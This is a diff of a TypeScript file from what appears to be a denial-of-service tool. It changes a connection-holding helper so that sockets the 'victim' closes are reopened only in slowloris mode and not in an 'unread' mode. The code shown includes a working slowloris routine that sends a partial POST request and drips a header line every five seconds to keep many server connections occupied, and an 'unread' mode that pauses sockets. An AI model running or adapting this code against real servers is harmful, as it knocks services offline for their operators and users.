@@ -27,12 +27,12 @@ function open(): Promise<Socket> {
   });
 }
 
-/** Holds `count` connections; one that the victim closes is opened anew. */
-async function hold(begin: (socket: Socket) => void): Promise<void> {
+/** Holds `count` connections. @param comesAgain whether one that the victim closes is opened anew */
+async function hold(comesAgain: boolean, begin: (socket: Socket) => void): Promise<void> {
   const keep = async (): Promise<void> => {
     const socket = await open();
     begin(socket);
-    socket.once("close", () => setTimeout(() => void keep(), 100));
+    if (comesAgain) socket.once("close", () => setTimeout(() => void keep(), 100));
   };
   await Promise.all(
     Array.from({ length: plan.count }, async () => {
@@ -73,14 +73,15 @@ function deep(): Buffer {
 async function attack(): Promise<void> {
   switch (plan.kind) {
     case "slowloris":
-      return hold((socket) => {
+      return hold(true, (socket) => {
         socket.write(`POST ${path} HTTP/1.1\r\nhost: ${url.host}\r\n`);
         const drip = setInterval(() => socket.write("x: y\r\n"), 5_000);
         socket.once("close", () => clearInterval(drip));
         socket.resume();
       });
     case "unread":
-      return hold((socket) => {
+      // Who is cut off and asks again is held by the limits of its key, which no benchmark has.
+      return hold(false, (socket) => {
         socket.pause();
         const x_sim = { tokens: 2_000_000, chunkTokens: 2_000, gapMs: 100 };
         socket.write(
